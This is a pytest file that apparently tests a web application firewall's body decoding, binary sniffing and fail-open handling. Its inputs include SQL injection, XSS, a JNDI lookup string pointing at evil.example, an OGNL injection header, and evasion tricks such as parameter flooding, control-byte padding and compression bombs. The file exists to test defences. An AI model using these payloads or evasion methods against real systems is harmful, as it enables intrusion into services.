"""Parse before matching: Content-Encoding undone within a budget, binary bodies sniffed, and no
silent fail-open (a budget that runs out blocks with its own status, or passes only by configuration)."""

from __future__ import annotations

import gzip
import json
import zlib

import brotli
import pytest

from waf import BodyBudget, BodyKind, Engine, EngineConfig, OverBudget, Refusal, Request, inspect

JSON = {"Content-Type": "application/json"}


def _json_body(doc: object, coding: str) -> bytes:
    raw = json.dumps(doc).encode()
    return {"gzip": gzip.compress, "deflate": zlib.compress, "br": brotli.compress}[coding](raw)


@pytest.mark.parametrize("coding", ["gzip", "deflate", "br"])
def test_sqli_inside_a_compressed_body_is_blocked(coding):
    body = _json_body({"user": "admin", "q": "1' UNION SELECT password FROM users--"}, coding)
    v = inspect(Request.make("POST", "/api", {**JSON, "Content-Encoding": coding}, body))
    assert v.blocked and "sqli" in v.categories and v.encodings == (coding,)


@pytest.mark.parametrize("coding", ["gzip", "deflate", "br"])
def test_clean_compressed_json_passes(coding):
    body = _json_body({"events": [{"name": "page_view", "ts": 1700000000, "path": "/docs"}]}, coding)
    v = inspect(Request.make("POST", "/collect", {**JSON, "Content-Encoding": coding}, body))
    assert not v.blocked and v.score == 0 and v.body is BodyKind.TEXT


def test_raw_deflate_is_accepted_too():
    c = zlib.compressobj(wbits=-15)
    body = c.compress(b'{"q": "<script>alert(1)</script>"}') + c.flush()
    assert inspect(Request.make("POST", "/", {**JSON, "Content-Encoding": "deflate"}, body)).blocked


def test_stacked_encodings_are_undone_last_first():
    body = brotli.compress(gzip.compress(b"q=%3Cscript%3Ealert(1)%3C/script%3E"))
    v = inspect(Request.make("POST", "/", {"Content-Encoding": "gzip, br"}, body))
    assert v.blocked and v.encodings == ("gzip", "br")


@pytest.mark.parametrize("coding", ["gzip", "br"])
def test_a_compression_bomb_is_refused_with_413_within_budget(coding):
    raw = b"\0" * (64 * 1024 * 1024)
    body = gzip.compress(raw, 9) if coding == "gzip" else brotli.compress(raw, quality=5)
    eng = Engine(EngineConfig(body_budget=BodyBudget(max_decoded=4 * 1024 * 1024, max_ratio=100)))
    v = eng.inspect(Request.make("POST", "/", {**JSON, "Content-Encoding": coding}, body))
    assert v.blocked and v.status == 413
    assert v.refusal in (Refusal.RATIO, Refusal.DECODED_TOO_LARGE)


def test_a_body_that_is_not_what_its_encoding_says_is_refused():
    v = inspect(Request.make("POST", "/", {**JSON, "Content-Encoding": "gzip"}, b'{"a": 1}'))
    assert v.blocked and v.refusal is Refusal.BAD_ENCODING and v.status == 400


def test_an_unknown_encoding_is_refused_not_passed():
    v = inspect(Request.make("POST", "/", {**JSON, "Content-Encoding": "zstd"}, b"\x28\xb5\x2f\xfd..."))
    assert v.blocked and v.refusal is Refusal.UNSUPPORTED_ENCODING and v.status == 415


@pytest.mark.parametrize(
    ("ctype", "body"),
    [
        ("image/png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4),
        ("application/x-protobuf", b"\n\x06021436\x12\x1c333.788' OR 1=1 --\x1a\x04\x08\x01\x10\x00" * 20),
        ("text/plain", bytes([0x08, 0x96, 0x01, 0x12, 0x07]) + b"<script>" + bytes(range(0, 32)) * 8),
        ("", b"\x00\x01\x02\x03' union select \x00\x00\x00\x00\x05\x06\x07\x08" * 8),
    ],
)
def test_binary_bodies_never_reach_text_rules(ctype, body):
    """Class: protobuf beacons, images and other binary uploads (NUL, CR/LF and quote bytes inside)."""
    v = inspect(Request.make("POST", "/log", {"Content-Type": ctype}, body))
    assert not v.blocked and v.body is BodyKind.BINARY


def test_text_labelled_as_binary_is_still_read_as_text():
    v = inspect(
        Request.make("POST", "/", {"Content-Type": "application/octet-stream"}, b"<script>alert(1)</script>")
    )
    assert v.blocked


def test_binary_file_part_of_a_multipart_form_is_skipped_but_text_fields_are_read():
    b = "xyzBOUNDARY"
    body = (
        f"--{b}\r\nContent-Disposition: form-data; name=\"avatar\"\r\n\r\n".encode()
        + b"\x00\x01\x02\x89\xff' or 1=1--\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\r\n"
        + f"--{b}\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\nhello there\r\n--{b}--\r\n".encode()
    )
    hdr = {"Content-Type": f"multipart/form-data; boundary={b}"}
    assert not inspect(Request.make("POST", "/", hdr, body)).blocked
    attack = body.replace(b"hello there", b"<script>alert(1)</script>")
    assert inspect(Request.make("POST", "/", hdr, attack)).blocked


# --- the three fail-open bypasses of issue 11 ---


def test_many_junk_form_parameters_then_xss_is_blocked():
    body = "&".join(f"p{i}=v{i}" for i in range(4100)) + "&x=<script>alert(1)</script>"
    req = Request.make("POST", "/", {"Content-Type": "application/x-www-form-urlencoded"}, body)
    v = inspect(req)
    assert v.blocked and "xss" in v.categories


def test_many_query_parameters_then_jndi_header_is_blocked():
    uri = "/?" + "&".join(f"a{i}=b{i}" for i in range(4100))
    v = inspect(Request.make("GET", uri, {"X-Api-Version": "${jndi:ldap://evil.example/a}"}))
    assert v.blocked and "jndi" in v.categories


@pytest.mark.parametrize("ctype", ["application/json", "text/plain"])
def test_long_padding_then_script_is_blocked(ctype):
    pad = "a" * 300_000
    body = json.dumps({"pad": pad, "x": "<script>alert(1)</script>"}) if "json" in ctype else pad + "<script>"
    v = inspect(Request.make("POST", "/", {"Content-Type": ctype}, body))
    assert v.blocked and "xss" in v.categories


def test_values_over_budget_are_refused_or_passed_uninspected_only_by_configuration():
    uri = "/?" + "&".join(f"a{i}={i}" for i in range(20_000))
    blocked = inspect(Request.make("GET", uri))
    assert blocked.blocked and blocked.refusal is Refusal.TOO_MANY_VALUES and blocked.status == 413
    passed = Engine(EngineConfig(over_budget=OverBudget.PASS)).inspect(Request.make("GET", uri))
    assert not passed.blocked and passed.uninspected and passed.refusal is Refusal.TOO_MANY_VALUES
    assert passed.to_dict()["refusal"] == str(Refusal.TOO_MANY_VALUES)


@pytest.mark.parametrize(
    "headers",
    [
        {"Request-Range": "bytes=0-1023"},
        {"X-HTTP-Method-Override": "DELETE"},
        {"Connection": "keep-alive, close"},
        {"Content-Type": "application/x-www-form-urlencoded; charset=utf-7"},
        {"Content-Type": "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"},
        {"Accept": "text/html; charset=CP1026"},
    ],
)
def test_protocol_policy_refuses_what_clients_never_send(headers):
    assert inspect(Request.make("GET", "/", headers)).blocked


def test_protocol_policy_lets_browsers_through():
    hdrs = {"Content-Type": "text/plain;charset=UTF-8", "Connection": "keep-alive", "Accept": "*/*"}
    assert not inspect(Request.make("POST", "/beacon", hdrs, b'{"t":1}')).blocked
    assert not inspect(Request.make("POST", "/blob", {}, bytes(range(256)))).blocked  # a typeless Blob


@pytest.mark.parametrize(
    ("ctype", "body"),
    [
        ("application/x-www-form-urlencoded", b"a=\x0b&q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        ("application/json", b'{"a":"\x0b\x0b\x0b","q":"<script>alert(1)</script>"}'),
        ("application/xml", b"<a>\x01\x02\x03<q>&lt;script&gt;alert(1)&lt;/script&gt;</q></a>"),
    ],
)
def test_control_bytes_do_not_make_a_declared_form_json_or_xml_body_binary(ctype, body):
    """Bypass class: a few raw control bytes in a short body used to tip the sniffer to "binary", so
    the whole body skipped every text rule; the application still parses it as declared."""
    assert inspect(Request.make("POST", "/", {"Content-Type": ctype}, body)).blocked


_PAD = "\x01\x02\x7f" * 12 + "AAAA" * 10  # enough control characters to make a value "opaque" (> 10%)


@pytest.mark.parametrize(
    "request_",
    [
        Request.make("POST", "/c", JSON, json.dumps({"comment": "<img src=x onerror=alert(1)>" + _PAD})),
        Request.make("POST", "/c", JSON, json.dumps({"q": "1' UNION SELECT password FROM users--" + _PAD})),
        Request.make("GET", "/c?q=%3Csvg%20onload%3Dalert(1)%3E" + "%01%02%7F" * 12 + "A" * 40),
        Request.make(
            "POST", "/c", {"Content-Type": "application/x-www-form-urlencoded"},
            b"comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E" + b"%01" * 30 + b"B" * 40,
        ),
    ],
)
def test_an_attack_padded_with_control_characters_is_still_inspected(request_):
    """Bypass class: a value with more than 10% control characters is binary in disguise and used to
    be skipped whole; padding an attack with them hid it. Its runs of text are inspected now."""
    assert inspect(request_).blocked


def test_runs_of_text_in_a_binary_value_are_inspected_one_by_one():
    """Junk between two runs ends both: nothing matches across it (a session-replay chunk holds ids
    and random printable bytes side by side)."""
    blob = "".join(f"{i:08x}-4a1b-9c2d-{i * 7919:012x}}}\x01\x02\x03\x04\x05{{x=" for i in range(12))
    assert not inspect(Request.make("POST", "/replay", JSON, json.dumps({"chunk": blob}))).blocked


def _pdf() -> bytes:
    stream = zlib.compress(bytes((i * 131 + 7) % 256 for i in range(3000)), 0)
    return (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Producer(iText 5.5.13 \\(AGPL-version\\))"
        b"/CreationDate(D:20211231145543+06'55')>>\nendobj\n2 0 obj\n<</Length 3000>>stream\n"
        + stream + b"\n!22222222222222222222 0 R\nendstream\nendobj\n%%EOF\n"
    )


def test_a_pdf_uploaded_under_a_json_type_passes_but_a_form_is_still_read():
    """Class: drive and storage clients PUT a file as the body under whatever type they were given;
    no JSON or XML parser reads past a binary file signature, so it is a file, not a document. A form
    parser reads on past one, so a form body is inspected whatever it starts with."""
    for ctype in ("application/json", "application/xml"):
        v = inspect(Request.make("PUT", "/v1.0/me/drive/root:/report.pdf:/content", {"Content-Type": ctype}, _pdf()))
        assert not v.blocked and v.score == 0
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    assert inspect(Request.make("POST", "/f", form, b"%PDF-1.7\n%\xe2\xe3&q=%3Cscript%3Ealert(1)%3C%2Fscript%3E")).blocked
